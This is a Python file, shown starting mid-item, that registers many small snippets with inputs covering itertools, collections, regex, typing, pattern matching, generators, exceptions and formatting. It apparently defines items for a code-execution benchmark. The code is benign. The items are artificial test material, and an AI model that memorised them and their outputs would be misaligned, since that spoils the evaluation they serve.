            'Doubles x eventually.'
            if state['left'] > 0:
                state['left'] -= 1
                raise ValueError
            return x * 2
        return flaky(21), flaky.__name__, flaky.__doc__, flaky.calls, flaky.__wrapped__.__name__
""")
_b("functools_cmp_to_key_custom_order", "['b10', 'a2', 'b2', 'a10']", """
    from functools import cmp_to_key
    def natural(a, b):
        ka = (a[0], int(a[1:]))
        kb = (b[0], int(b[1:]))
        return (ka > kb) - (ka < kb)
    def f(items):
        return sorted(items, key=cmp_to_key(natural)), sorted(items, key=cmp_to_key(natural), reverse=True)
""")
_b("itertools_product_permutations_counts", "'abc', 2", """
    from itertools import product, permutations, combinations, combinations_with_replacement
    def f(s, r):
        return (len(list(product(s, repeat=r))), [''.join(p) for p in permutations(s, r)][:4],
                list(combinations(s, r)), len(list(combinations_with_replacement(s, r))))
""")
_b("itertools_groupby_consecutive_runs", "[1, 2, 3, 5, 6, 9, 10, 11]", """
    from itertools import groupby, count
    def f(nums):
        runs = []
        for _, grp in groupby(enumerate(nums), key=lambda t: t[1] - t[0]):
            g = [v for _, v in grp]
            runs.append(f'{g[0]}-{g[-1]}' if len(g) > 1 else str(g[0]))
        return runs
""")
_b("itertools_pairwise_starmap_accumulate", "[3, 1, 4, 1, 5, 9, 2, 6]", """
    from itertools import pairwise, starmap, accumulate
    import operator
    def f(xs):
        diffs = list(starmap(operator.sub, ((b, a) for a, b in pairwise(xs))))
        return diffs, list(accumulate(xs, max)), list(accumulate(xs, initial=100))[:3]
""")
_b("itertools_chain_islice_cycle_repeat", "3", """
    from itertools import chain, islice, cycle, repeat, filterfalse, zip_longest
    def f(n):
        return (list(islice(cycle('ab'), n * 2)), list(chain.from_iterable(repeat([1, 2], n))),
                list(filterfalse(lambda x: x % 2, range(n * 3))), list(zip_longest('ab', range(n), fillvalue='-')))
""")
_b("itertools_tee_and_compress", "[1, 2, 3, 4, 5]", """
    from itertools import tee, compress, dropwhile, takewhile
    def f(xs):
        a, b = tee(iter(xs))
        next(b)
        return (list(zip(a, b)), list(compress(xs, [x % 2 for x in xs])),
                list(dropwhile(lambda x: x < 3, xs)), list(takewhile(lambda x: x < 3, xs)))
""")
_b("collections_counter_ops_and_total", "'abracadabra', 'alakazam'", """
    from collections import Counter
    def f(a, b):
        ca, cb = Counter(a), Counter(b)
        return (sorted((ca & cb).items()), sorted((ca - cb).items()), (ca + cb).most_common(2), ca.total(),
                sorted(ca.elements())[:5])
""")
_b("collections_counter_subtract_update", "['x', 'y', 'x']", """
    from collections import Counter
    def f(words):
        c = Counter({'x': 5, 'y': 1})
        c.subtract(words)
        c.update({'z': 2})
        return dict(sorted(c.items())), +c, -c
""")
_b("collections_deque_window_max", "[1, 3, -1, -3, 5, 3, 6, 7], 3", """
    from collections import deque
    def f(nums, k):
        dq, out = deque(), []
        for i, x in enumerate(nums):
            while dq and nums[dq[-1]] <= x:
                dq.pop()
            dq.append(i)
            if dq[0] <= i - k:
                dq.popleft()
            if i >= k - 1:
                out.append(nums[dq[0]])
        return out
""")
_b("collections_deque_ops", "5", """
    from collections import deque
    def f(n):
        d = deque(range(n), maxlen=n)
        d.rotate(2)
        d.appendleft(-1)
        d.extend([10, 11])
        d.extendleft('ab')
        return list(d), d.maxlen, d.count(10), 'a' in d
""")
_b("collections_ordereddict_move_to_end", "['a', 'b', 'c', 'd']", """
    from collections import OrderedDict
    def f(keys):
        od = OrderedDict((k, i) for i, k in enumerate(keys))
        od.move_to_end('a')
        od.move_to_end('d', last=False)
        first = od.popitem(last=False)
        return list(od.items()), first, list(reversed(od))
""")
_b("collections_chainmap_scopes", "{'x': 1}", """
    from collections import ChainMap
    def f(local):
        builtins_ = {'x': 0, 'y': 0, 'print': 'p'}
        globals_ = {'y': 2}
        scope = ChainMap(dict(local), globals_, builtins_)
        inner = scope.new_child({'z': 3})
        inner['x'] = 99
        return inner['x'], scope['x'], inner['y'], sorted(inner), len(inner.parents.maps)
""")
_b("collections_defaultdict_tree", "['a/b/c', 'a/d', 'e']", """
    from collections import defaultdict
    def tree():
        return defaultdict(tree)
    def to_dict(t):
        return {k: to_dict(v) for k, v in sorted(t.items())}
    def f(paths):
        root = tree()
        for p in paths:
            node = root
            for part in p.split('/'):
                node = node[part]
        return to_dict(root)
""")
_b("heapq_merge_nlargest_pushpop", "[[1, 4, 7], [2, 5, 8], [0, 9]]", """
    import heapq
    def f(lists):
        merged = list(heapq.merge(*lists))
        h = []
        for x in merged:
            if len(h) < 3:
                heapq.heappush(h, x)
            else:
                heapq.heappushpop(h, x)
        return merged, sorted(h), heapq.nlargest(2, merged, key=lambda v: -v), heapq.nsmallest(2, merged)
""")
_b("heapq_running_median", "[5, 15, 1, 3, 8]", """
    import heapq
    def f(xs):
        low, high, out = [], [], []
        for x in xs:
            heapq.heappush(low, -x)
            heapq.heappush(high, -heapq.heappop(low))
            if len(high) > len(low):
                heapq.heappush(low, -heapq.heappop(high))
            out.append(-low[0] if len(low) > len(high) else (-low[0] + high[0]) / 2)
        return out
""")
_b("bisect_with_key_and_insort", "[('b', 2), ('a', 1), ('c', 3)]", """
    import bisect
    def f(items):
        items = sorted(items, key=lambda t: t[1])
        i = bisect.bisect_left(items, 2, key=lambda t: t[1])
        bisect.insort(items, ('z', 2), key=lambda t: t[1])
        scores = [60, 70, 80, 90]
        grades = ['F', 'D', 'C', 'B', 'A']
        return i, items, [grades[bisect.bisect(scores, s)] for s in (55, 70, 99)]
""")
_b("re_verbose_named_groups_finditer", "'2024-01-05, 1999-12-31'", """
    import re
    DATE = re.compile(r'''
        (?P<year>\\d{4}) -
        (?P<month>\\d{2}) -
        (?P<day>\\d{2})
    ''', re.VERBOSE)
    def f(text):
        return [m.groupdict() for m in DATE.finditer(text)], DATE.sub(r'\\g<day>/\\g<month>/\\g<year>', text)
""")
_b("re_fullmatch_split_escape", "'a.b|c'", """
    import re
    def f(s):
        return (bool(re.fullmatch(r'[a-z.|]+', s)), re.split(r'[.|]', s), re.escape(s),
                re.findall(r'(?<=\\.)\\w', s), re.sub(r'(\\w)', lambda m: m.group(1).upper(), s, count=2))
""")
_b("re_compiled_flags_and_groups", "'Hello World, hello python'", """
    import re
    def f(text):
        pat = re.compile(r'hello\\s+(\\w+)', re.IGNORECASE)
        m = pat.search(text)
        return pat.findall(text), m.group(1), m.span(), m.start(1), pat.pattern, bool(pat.flags & re.I)
""")
_b("string_formatter_subclass_defaults", "'Ann'", """
    import string
    class Defaulting(string.Formatter):
        def get_value(self, key, args, kwargs):
            if isinstance(key, str):
                return kwargs.get(key, f'<{key}>')
            return super().get_value(key, args, kwargs)
    def f(name):
        fmt = Defaulting()
        return fmt.format('{name} is {age} ({0})', 'x', name=name), list(fmt.parse('a{b}c'))
""")
_b("string_template_safe_substitute", "{'who': 'Kim'}", """
    from string import Template
    class Percent(Template):
        delimiter = '%'
    def f(mapping):
        t = Template('$who likes $what')
        return t.safe_substitute(mapping), Percent('%who!').substitute(mapping), t.get_identifiers()
""")
_b("string_constants_and_capwords", "'the quick brown fox'", """
    import string
    def f(s):
        table = str.maketrans(string.ascii_lowercase, string.ascii_lowercase[13:] + string.ascii_lowercase[:13])
        return string.capwords(s), s.translate(table), sum(c in string.punctuation for c in s + '!?')
""")
_b("math_number_theory", "84, 36", """
    import math
    def f(a, b):
        return (math.gcd(a, b), math.lcm(a, b), math.isqrt(a * b), math.comb(10, 3), math.perm(5, 2),
                math.factorial(6), math.prod([1, 2, 3, 4]))
""")
_b("math_float_tools", "[0.1, 0.2, 0.3]", """
    import math
    def f(xs):
        return (math.fsum(xs), sum(xs) == 0.6, math.isclose(sum(xs), 0.6), math.dist((0, 0), (3, 4)),
                math.hypot(5, 12), round(math.log(8, 2), 6), math.copysign(2, -0.0), math.floor(-2.5), math.ceil(2.1),
                math.inf > 1e308, math.trunc(-3.7))
""")
_b("cmath_roots_of_quadratic", "1, 2, 5", """
    import cmath
    def f(a, b, c):
        d = cmath.sqrt(b * b - 4 * a * c)
        r1, r2 = (-b + d) / (2 * a), (-b - d) / (2 * a)
        return r1, r2, round(abs(r1), 6), round(cmath.phase(r1), 6)
""")
_b("fractions_limit_and_mixed", "'3.14159'", """
    from fractions import Fraction
    def f(s):
        x = Fraction(s)
        return x, x.limit_denominator(100), Fraction(1, 3) + Fraction(1, 6), x.as_integer_ratio(), float(Fraction(7, 8))
""")
_b("decimal_context_and_rounding", "'2.675'", """
    from decimal import Decimal, ROUND_HALF_UP, ROUND_HALF_EVEN, localcontext
    def f(s):
        d = Decimal(s)
        with localcontext() as ctx:
            ctx.prec = 4
            third = Decimal(1) / Decimal(3)
        return (d.quantize(Decimal('0.01'), rounding=ROUND_HALF_UP), d.quantize(Decimal('0.01'), rounding=ROUND_HALF_EVEN),
                third, str(d * 2), d.as_tuple().exponent, Decimal('1.10') + Decimal('2.20'))
""")
_b("statistics_full_summary", "[2, 4, 4, 4, 5, 5, 7, 9]", """
    import statistics as st
    def f(xs):
        return (st.mean(xs), st.median(xs), st.mode(xs), st.multimode(xs + [5]), st.pstdev(xs), round(st.stdev(xs), 6),
                st.quantiles(xs, n=4), st.median_low([1, 2, 3, 4]), st.fmean(xs))
""")
_b("statistics_regression_and_correlation", "[1, 2, 3, 4, 5], [2, 4, 5, 4, 5]", """
    import statistics
    def f(xs, ys):
        slope, intercept = statistics.linear_regression(xs, ys)
        return round(slope, 6), round(intercept, 6), round(statistics.correlation(xs, ys), 6)
""")
_b("json_custom_encoder_and_hook", "{'when': [2024, 1, 2], 'items': [1, 2]}", """
    import json
    class Date:
        def __init__(self, y, m, d):
            self.y, self.m, self.d = y, m, d
    class Encoder(json.JSONEncoder):
        def default(self, o):
            if isinstance(o, Date):
                return {'__date__': [o.y, o.m, o.d]}
            return super().default(o)
    def hook(d):
        if '__date__' in d:
            return tuple(d['__date__'])
        return d
    def f(payload):
        payload = dict(payload, when=Date(*payload['when']))
        text = json.dumps(payload, cls=Encoder, sort_keys=True)
        return text, json.loads(text, object_hook=hook)
""")
_b("json_pretty_and_errors", "'{\"a\": [1, 2, {\"b\": null}]}'", """
    import json
    def f(text):
        data = json.loads(text)
        pretty = json.dumps(data, indent=2)
        try:
            json.loads(text[:-1])
        except json.JSONDecodeError as e:
            err = (e.msg, e.pos)
        return pretty.count('\\n'), json.dumps(data, separators=(',', ':')), err
""")
_b("typing_generic_class_with_typevar", "[3, 1, 2]", """
    from typing import Generic, TypeVar, Optional, Iterator
    T = TypeVar('T')
    class Queue(Generic[T]):
        def __init__(self) -> None:
            self._items: list[T] = []
        def put(self, item: T) -> None:
            self._items.append(item)
        def get(self) -> Optional[T]:
            return self._items.pop(0) if self._items else None
        def __iter__(self) -> Iterator[T]:
            return iter(self._items)
    def f(xs):
        q: Queue[int] = Queue[int]()
        for x in xs:
            q.put(x)
        return q.get(), list(q), Queue.__name__
""")
_b("typing_protocol_and_typeddict", "'circle', 2.0", """
    from typing import Protocol, TypedDict, runtime_checkable, Literal
    @runtime_checkable
    class HasArea(Protocol):
        def area(self) -> float: ...
    class ShapeSpec(TypedDict, total=False):
        kind: Literal['circle', 'square']
        size: float
    class Circle:
        def __init__(self, r):
            self.r = r
        def area(self):
            return 3 * self.r ** 2
    def f(kind, size):
        spec: ShapeSpec = {'kind': kind, 'size': size}
        shape = Circle(spec['size'])
        return isinstance(shape, HasArea), isinstance(1, HasArea), shape.area(), sorted(ShapeSpec.__annotations__)
""")
_b("typing_get_type_hints_and_args", "0", """
    from typing import get_type_hints, get_args, get_origin, Union, Dict, List, Optional
    class Model:
        name: str
        tags: List[str]
        meta: Optional[Dict[str, int]] = None
    def f(a):
        hints = get_type_hints(Model)
        return ([k for k in hints], get_origin(hints['tags']) is list, get_args(hints['meta'])[1] is type(None),
                get_args(Union[int, str]) == (int, str))
""")
_b("typing_newtype_overload_cast", "5", """
    from typing import NewType, cast, overload, Union
    UserId = NewType('UserId', int)
    @overload
    def double(x: int) -> int: ...
    @overload
    def double(x: str) -> str: ...
    def double(x: Union[int, str]) -> Union[int, str]:
        return x * 2
    def f(n):
        uid = UserId(n)
        return double(uid), double('ab'), cast(int, '7'), UserId.__name__
""")
_b("typing_self_and_final", "3", """
    from typing import Self, Final
    LIMIT: Final = 10
    class Builder:
        def __init__(self):
            self.parts = []
        def add(self, x) -> Self:
            self.parts.append(x)
            return self
    def f(n):
        b = Builder()
        for i in range(n):
            b = b.add(i * LIMIT)
        return b.parts
""")
_b("textwrap_and_unicodedata", "'Caf\\u00e9 na\\u00efve \\u00fcber'", """
    import textwrap, unicodedata
    def f(s):
        plain = ''.join(c for c in unicodedata.normalize('NFD', s) if unicodedata.category(c) != 'Mn')
        return plain, textwrap.wrap(s * 2, width=12), unicodedata.name(s[3]), textwrap.shorten(s * 3, 20)
""")
_b("array_typed_buffer", "[1, 2, 3, 250]", """
    from array import array
    def f(xs):
        a = array('H', xs)
        a.append(7)
        a.reverse()
        b = array('b', [1, -1])
        return a.tolist(), a.itemsize, len(a.tobytes()), b.tolist(), a.typecode
""")

# match, generators, closures, recursion, formatting, sorting, exceptions, walrus, scoping, sets, builtins

_b("match_command_parser", "['go north', 'take lamp key', 'quit', 'dance']", """
    def f(commands):
        out = []
        for cmd in commands:
            match cmd.split():
                case ['go', direction]:
                    out.append(f'move {direction}')
                case ['take', *items] if items:
                    out.append('take ' + '+'.join(items))
                case ['quit' | 'exit']:
                    out.append('bye')
                case [verb, *_]:
                    out.append(f'unknown {verb}')
        return out
""")
_b("match_mapping_with_rest", "[{'type': 'circle', 'r': 2}, {'type': 'rect', 'w': 2, 'h': 3, 'color': 'red'}, {'kind': 1}]", """
    def f(shapes):
        out = []
        for s in shapes:
            match s:
                case {'type': 'circle', 'r': r}:
                    out.append(('circle', 3 * r * r))
                case {'type': 'rect', 'w': w, 'h': h, **rest}:
                    out.append(('rect', w * h, sorted(rest)))
                case _:
                    out.append(('?', len(s)))
        return out
""")
_b("match_class_patterns_positional_and_keyword", "[(0, 0), (0, 5), (3, 0), (2, 2)]", """
    class Point:
        __match_args__ = ('x', 'y')
        def __init__(self, x, y):
            self.x, self.y = x, y
    def where(p):
        match p:
            case Point(0, 0):
                return 'origin'
            case Point(0, y):
                return f'y-axis {y}'
            case Point(x=x, y=0):
                return f'x-axis {x}'
            case Point(x, y) if x == y:
                return f'diagonal {x}'
            case _:
                return 'elsewhere'
    def f(pts):
        return [where(Point(*p)) for p in pts]
""")
_b("match_nested_class_patterns_tree", "0", """
    from dataclasses import dataclass
    @dataclass
    class Num:
        v: int
    @dataclass
    class Add:
        l: object
        r: object
    @dataclass
    class Mul:
        l: object
        r: object
    def simplify(e):
        match e:
            case Add(Num(0), x) | Add(x, Num(0)):
                return simplify(x)
            case Mul(Num(1), x) | Mul(x, Num(1)):
                return simplify(x)
            case Mul(Num(0), _) | Mul(_, Num(0)):
                return Num(0)
            case Add(l, r):
                return Add(simplify(l), simplify(r))
            case Mul(l, r):
                return Mul(simplify(l), simplify(r))
            case _:
                return e
    def f(a):
        e = Add(Mul(Num(1), Add(Num(a), Num(7))), Mul(Num(3), Num(0)))
        return repr(simplify(e))
""")
_b("match_builtin_class_patterns", "[1, 'two', 3.0, [4], (5, 6), {'k': 7}, None, True]", """
    def f(items):
        out = []
        for x in items:
            match x:
                case bool(b):
                    out.append(f'bool {b}')
                case int(n):
                    out.append(f'int {n}')
                case float(v) if v.is_integer():
                    out.append(f'whole float {int(v)}')
                case str() as s:
                    out.append(f'str {s.upper()}')
                case [single]:
                    out.append(f'list of one {single}')
                case (a, b):
                    out.append(f'pair {a + b}')
                case dict(d):
                    out.append(f'dict {sorted(d)}')
                case None:
                    out.append('none')
        return out
""")
_b("match_value_patterns_enum_and_constants", "['RED', 'GREEN', 'BLUE']", """
    import enum
    class Color(enum.Enum):
        RED = 1
        GREEN = 2
        BLUE = 3
    class Limits:
        LOW = 1
        HIGH = 3
    def f(names):
        out = []
        for n in names:
            c = Color[n]
            match c:
                case Color.RED:
                    out.append('stop')
                case Color.GREEN:
                    out.append('go')
                case _:
                    out.append('other')
            match c.value:
                case Limits.LOW | Limits.HIGH:
                    out.append('edge')
                case _:
                    out.append('middle')
        return out
""")
_b("match_private_class_constants", "[0, 1, 2]", """
    class Machine:
        _IDLE = 0
        _RUNNING = 1
        __DONE = 2
        @classmethod
        def label(cls, state):
            match state:
                case cls._IDLE:
                    return 'idle'
                case cls._RUNNING:
                    return 'running'
                case _:
                    return 'done'
    def f(states):
        return [Machine.label(s) for s in states]
""")
_b("match_in_class_body", "0", """
    VERSION = (3, 11)
    class Compat:
        match VERSION:
            case (3, minor) if minor >= 10:
                HAS_MATCH = True
            case _:
                HAS_MATCH = False
        match 'linux':
            case 'linux' | 'darwin':
                POSIX = True
            case _:
                POSIX = False
    def f(a):
        return Compat.HAS_MATCH, Compat.POSIX, a
""")
_b("match_namedtuple_and_star_patterns", "[[1, 2, 3, 4], [7], []]", """
    from collections import namedtuple
    Span = namedtuple('Span', 'start end')
    def f(lists):
        out = []
        for xs in lists:
            match xs:
                case [first, *middle, last]:
                    out.append(Span(first, last))
                case [only]:
                    out.append(Span(only, only))
                case []:
                    out.append(None)
        labels = []
        for s in out:
            match s:
                case Span(start=a, end=b) if a == b:
                    labels.append('point')
                case Span(a, b):
                    labels.append(f'{a}..{b}')
                case None:
                    labels.append('empty')
        return labels
""")
_b("match_as_patterns_and_or_captures", "[('add', 1, 2), ('neg', 5), ('add', 'x', 1), 'noop']", """
    def f(ops):
        out = []
        for op in ops:
            match op:
                case ('add', int() | float() as a, int() | float() as b):
                    out.append(a + b)
                case ('neg', (int() | float()) as v):
                    out.append(-v)
                case (name, *args) as whole:
                    out.append(f'bad {name} {len(whole)}')
                case str(s):
                    out.append(s)
        return out
""")
_b("match_recursive_evaluator_with_guards", "['+', ['*', 2, 3], ['-', 10, 4]]", """
    def ev(expr):
        match expr:
            case int() | float():
                return expr
            case ['+', *args]:
                return sum(ev(a) for a in args)
            case ['*', a, b]:
                return ev(a) * ev(b)
            case ['-', a, b] if ev(a) >= ev(b):
                return ev(a) - ev(b)
            case ['-', a, b]:
                return -(ev(b) - ev(a))
            case _:
                raise ValueError(f'bad expression {expr!r}')
    def f(expr):
        return ev(expr)
""")
_b("match_class_pattern_with_local_class_argument", "[1, 'a', 2.5]", """
    def count_of(kind, items):
        n = 0
        for x in items:
            match x:
                case kind():
                    n += 1
        return n
    def f(items):
        return [count_of(t, items) for t in (int, str, float, list)]
""")
_b("generator_send_throw_close", "[3, 4]", """
    def averager():
        total = count = 0
        avg = None
        try:
            while True:
                try:
                    x = yield avg
                except ValueError:
                    total = count = 0
                    avg = None
                    continue
                total += x
                count += 1
                avg = total / count
        finally:
            log.append('closed')
    log = []
    def f(xs):
        log.clear()
        g = averager()
        next(g)
        out = [g.send(x) for x in xs]
        g.throw(ValueError)
        out.append(g.send(10))
        g.close()
        return out, list(log)
""")
_b("generator_yield_from_delegation", "3", """
    def inner(n):
        for i in range(n):
            received = yield i
            if received:
                return f'stopped at {i}'
        return 'done'
    def outer(n):
        result = yield from inner(n)
        yield result
    def f(n):
        g = outer(n)
        seen = [next(g), next(g)]
        seen.append(g.send(True))
        return seen, list(outer(n))
""")
_b("generator_pipeline_lazy", "20", """
    def integers():
        n = 1
        while True:
            yield n
            n += 1
    def evens(seq):
        return (x for x in seq if x % 2 == 0)
    def squares(seq):
        for x in seq:
            yield x * x
    def take(n, seq):
        for _, x in zip(range(n), seq):
            yield x
    def f(n):
        return list(take(5, squares(evens(integers())))), sum(take(n, integers()))
""")
_b("closures_nonlocal_accumulators", "[5, 10, -3]", """
    def make_account(balance):
        history = []
        def deposit(x):
            nonlocal balance
            balance += x
            history.append(('d', x))
            return balance
        def withdraw(x):
            nonlocal balance
            if x > balance:
                raise ValueError('insufficient')
            balance -= x
            history.append(('w', x))
            return balance
        def report():
            return balance, list(history)
        return deposit, withdraw, report
    def f(ops):
        dep, wd, rep = make_account(0)
        for x in ops:
            try:
                (dep if x > 0 else wd)(abs(x))
            except ValueError as e:
                return rep(), str(e)
        return rep(), None
""")
_b("closures_late_binding_fixed", "4", """
    def f(n):
        late = [lambda: i for i in range(n)]
        bound = [lambda i=i: i for i in range(n)]
        def make(i):
            return lambda: i * i
        made = [make(i) for i in range(n)]
        return [g() for g in late], [g() for g in bound], [g() for g in made]
""")
_b("recursion_memo_and_backtracking_subsets", "[1, 2, 3, 4], 5", """
    def f(nums, target):
        found = []
        def backtrack(i, chosen, total):
            if total == target:
                found.append(list(chosen))
                return
            if i == len(nums) or total > target:
                return
            chosen.append(nums[i])
            backtrack(i + 1, chosen, total + nums[i])
            chosen.pop()
            backtrack(i + 1, chosen, total)
        backtrack(0, [], 0)
        memo = {}
        def count(i, t):
            if t == 0:
                return 1
            if i == len(nums) or t < 0:
                return 0
            if (i, t) not in memo:
                memo[(i, t)] = count(i + 1, t - nums[i]) + count(i + 1, t)
            return memo[(i, t)]
        return found, count(0, target)
""")
_b("recursion_deep_but_legal", "900", """
    def depth(n):
        return 0 if n == 0 else 1 + depth(n - 1)
    def f(n):
        return depth(n)
""")
_b("recursion_mutual", "10", """
    def is_even(n):
        return True if n == 0 else is_odd(n - 1)
    def is_odd(n):
        return False if n == 0 else is_even(n - 1)
    def f(n):
        return [is_even(i) for i in range(n)]
""")
_b("format_spec_mini_language", "1234567.891, -42", """
    def f(x, n):
        return [f'{x:,.2f}', f'{x:>15.1e}', f'{n:+05d}', f'{n:#x}', f'{255:08b}', f'{0.25:.0%}', f'{"mid":*^9}',
                '{:<6}|{:^6}|{:>6}'.format('l', 'c', 'r'), format(x, '_.3f'), f'{n!r:>5}', '%-5s|%05.1f' % ('ab', 3.14159)]
""")
_b("str_format_nested_and_index_fields", "{'name': 'Zoe', 'scores': [90, 85]}", """
    class Rec:
        def __init__(self, d):
            self.name = d['name']
            self.scores = d['scores']
    def f(d):
        r = Rec(d)
        return ['{0[name]} has {0[scores][1]}'.format(d), '{r.name:>{w}}'.format(r=r, w=6),
                '{.scores[0]:.1f}'.format(r), '{name}-{name}'.format_map(d), '{0.__class__.__name__}'.format(r)]
""")
_b("fstring_debug_and_expressions", "3, 'x'", """
    def f(n, s):
        items = [n, n * 2]
        return [f'{n=}', f'{s!r:^7}', f'{items[-1] ** 2:,}', f"{'yes' if n > 2 else 'no'}", f'{n:{"0>"}{n + 2}}',
                f'{{literal}} {len(items)}']
""")
_b("sorting_keys_stability_reverse", "[('bob', 25, 'B'), ('amy', 30, 'A'), ('cal', 25, 'A'), ('dee', 30, 'B')]", """
    from operator import itemgetter
    def f(rows):
        by_age_then_name = sorted(rows, key=itemgetter(1, 0))
        by_grade_desc_age = sorted(sorted(rows, key=itemgetter(1)), key=itemgetter(2), reverse=True)
        return ([r[0] for r in by_age_then_name], [r[0] for r in by_grade_desc_age],
                min(rows, key=lambda r: (r[1], r[0]))[0], max(rows, key=itemgetter(1))[0])
""")
_b("custom_exception_hierarchy_with_private_state", "['12', 'x', '-3', '200']", """
    class AppError(Exception):
        def __init__(self, msg, code):
            super().__init__(msg)
            self._code = code
        @property
        def code(self):
            return self._code
    class ParseError(AppError):
        pass
    class RangeError(AppError):
        def __str__(self):
            return f'[{self._code}] {self.args[0]}'
    def parse(s):
        try:
            v = int(s)
        except ValueError as e:
            raise ParseError(f'not a number: {s}', 1) from e
        if not 0 <= v <= 100:
            raise RangeError(f'out of range: {v}', 2)
        return v
    def f(items):
        out = []
        for s in items:
            try:
                out.append(parse(s))
            except AppError as e:
                out.append((type(e).__name__, e.code, str(e), type(e.__cause__).__name__))
        return out
""")
_b("exception_groups_without_except_star", "[1, 0, 'x']", """
    def f(items):
        errors = []
        for x in items:
            try:
                10 / x
            except Exception as e:
                errors.append(e)
        eg = ExceptionGroup('batch', errors)
        zero, rest = eg.split(ZeroDivisionError)
        return [type(e).__name__ for e in eg.exceptions], len(zero.exceptions), len(rest.exceptions), str(eg)
""")
_b("exception_notes_and_finally_order", "2", """
    def risky(n):
        try:
            if n > 1:
                raise KeyError(n)
            return 'fine'
        except KeyError as e:
            e.add_note(f'while handling {n}')
            raise
        finally:
            trail.append('finally')
    trail = []
    def f(n):
        trail.clear()
        try:
            risky(n)
        except KeyError as e:
            trail.append(e.__notes__[0])
        trail.append(risky(0))
        return trail
""")
_b("walrus_in_loops_and_comprehensions", "[4, 7, 1, 9, 3]", """
    def f(xs):
        it = iter(xs)
        picked = []
        while (x := next(it, None)) is not None:
            if x > 3:
                picked.append(x)
        pairs = [(y, y * y) for x in xs if (y := x * 2) > 6]
        has_big = any((w := x) > 8 for x in xs)
        return picked, pairs, has_big, w
""")
_b("comprehension_scoping_nested", "3", """
    def f(n):
        x = 'outer'
        squares = [x for x in range(n)]
        matrix = [[i * j for j in range(n)] for i in range(n)]
        flat = [v for row in matrix for v in row if v]
        lookup = {k: [k * i for i in range(k)] for k in range(n)}
        gen_total = sum(x * x for x in range(n))
        return x, squares, flat, lookup, gen_total
""")
_b("global_statement_reset_each_call", "[1, 2, 3]", """
    total = 0
    calls = []
    def add(x):
        global total
        total += x
    def f(xs):
        global total, calls
        total = 0
        calls = []
        for x in xs:
            add(x)
            calls.append(total)
        return total, calls
""")
_b("sets_of_strings_without_order_leaks", "'the cat and the hat and the bat'", """
    def f(text):
        words = set(text.split())
        vowels = set('aeiou')
        return (sorted(words), len(words), 'cat' in words, min(words), max(words, key=lambda w: (len(w), w)),
                ''.join(sorted(set(text) & vowels)), words >= {'cat', 'hat'}, sum(len(w) for w in words),
                frozenset(w for w in words if w.endswith('at')))
""")
_b("set_algebra_returned_as_sets", "['a', 'b', 'c'], ['b', 'c', 'd']", """
    def f(xs, ys):
        a, b = set(xs), set(ys)
        return a | b, a & b, a - b, a ^ b, {frozenset(a), frozenset(b)} == {frozenset(b), frozenset(a)}
""")
_b("dict_methods_and_merge_operators", "{'b': 2, 'a': 1}", """
    def f(d):
        e = d | {'c': 3}
        e |= {'a': 10}
        inv = {v: k for k, v in e.items()}
        e.setdefault('z', 0)
        last = e.popitem()
        return e, inv, last, list(reversed(e)), sorted(e, key=e.get), dict.fromkeys('xy', 0)
""")
_b("bytes_and_int_conversions", "1000, 'hi'", """
    def f(n, s):
        b = n.to_bytes(4, 'big')
        return (b, int.from_bytes(b, 'little'), n.bit_length(), bin(n).count('1'), s.encode('utf-16-le'),
                bytes.fromhex('ff00').hex('-'), bytearray(s, 'ascii').upper(), pow(3, -1, 7), divmod(-7, 2))
""")
_b("string_methods_breadth", "'  Hello, World! hello?  '", """
    def f(s):
        t = s.strip()
        return (t.casefold().count('hello'), t.partition(','), t.rpartition(' '), t.zfill(25)[:3], t.center(21, '.'),
                t.removeprefix('Hello').removesuffix('?'), t.swapcase(), t.title(), t.split(maxsplit=1),
                'a\\tb'.expandtabs(4), 'x\\ny\\r\\nz'.splitlines(), 'abc'.isidentifier(), t.find('z'), t.rindex('l'))
""")
_b("zip_strict_and_enumerate_start", "['a', 'b'], [1, 2]", """
    def f(keys, vals):
        try:
            list(zip(keys, vals + [3], strict=True))
        except ValueError as e:
            err = 'strict' in str(e) or 'longer' in str(e)
        return dict(zip(keys, vals)), list(enumerate(keys, start=1)), err, list(zip(*[(1, 'x'), (2, 'y')]))
""")
_b("range_and_slice_objects", "10", """
    def f(n):
        r = range(1, n, 3)
        s = slice(1, None, 2)
        data = list(range(n))
        return list(r), r[-1], len(r), 7 in r, r.index(7), data[s], s.indices(n), list(reversed(r)), r == range(1, n, 3)
""")
_b("float_int_corner_cases", "2.5", """
    def f(x):
        return (round(x), round(3.5), round(-2.5), int(-x), x.is_integer(), x.as_integer_ratio(), float('1e3'), 10 / 4, 10 // -4,
                -10 % 3, 2 ** -1, 0.1 + 0.2, (0.1 + 0.2).hex()[:6], 1e16 + 1)
""")
_b("print_and_return_separately", "3", """
    def f(n):
        for i in range(n):
            print(i, end=' ')
        print('done', sep='-')
        return n * 2
""")
_b("async_coroutine_driven_by_hand", "[1, 2, 3]", """
    class Ready:
        def __init__(self, value):
            self.value = value
        def __await__(self):
            return (yield self.value)
    async def add_all(xs):
        total = 0
        for x in xs:
            total += await Ready(x)
        return total
    def f(xs):
        coro = add_all(xs)
        sent = []
        try:
            v = coro.send(None)
            while True:
                sent.append(v)
                v = coro.send(v * 10)
        except StopIteration as stop:
            return sent, stop.value
""")
_b("lambda_heavy_functional_style", "[5, 3, 8, 1]", """
    def f(xs):
        compose = lambda *fs: lambda x: __import_free(fs, x)
        def __import_free(fs, x):
            for g in fs:
                x = g(x)
            return x
        inc_then_double = compose(lambda v: v + 1, lambda v: v * 2)
        return list(map(inc_then_double, xs)), list(filter(lambda v: v % 2, xs)), sorted(xs, key=lambda v: -v)
""")
_b("class_hierarchy_mro_and_super_chain", "0", """
    class Base:
        def greet(self):
            return ['Base']
    class Left(Base):
        def greet(self):
            return ['Left'] + super().greet()
    class Right(Base):
        def greet(self):
            return ['Right'] + super().greet()
    class Child(Left, Right):
        def greet(self):
            return ['Child'] + super().greet()
    def f(a):
        return Child().greet(), [c.__name__ for c in Child.__mro__], issubclass(Child, Base)
""")
_b("staticmethod_classmethod_property_mix", "'2024-03-05'", """
    class Date:
        def __init__(self, y, m, d):
            self._y, self._m, self._d = y, m, d
        @classmethod
        def parse(cls, s):
            return cls(*map(int, s.split('-')))
        @staticmethod
        def is_leap(y):
            return y % 4 == 0 and (y % 100 != 0 or y % 400 == 0)
        @property
        def day_of_year(self):
            days = [31, 29 if self.is_leap(self._y) else 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31]
            return sum(days[:self._m - 1]) + self._d
        def __repr__(self):
            return f'Date({self._y}, {self._m}, {self._d})'
    def f(s):
        d = Date.parse(s)
        return repr(d), d.day_of_year, Date.is_leap(1900)
""")

# algorithms and small systems written with classes

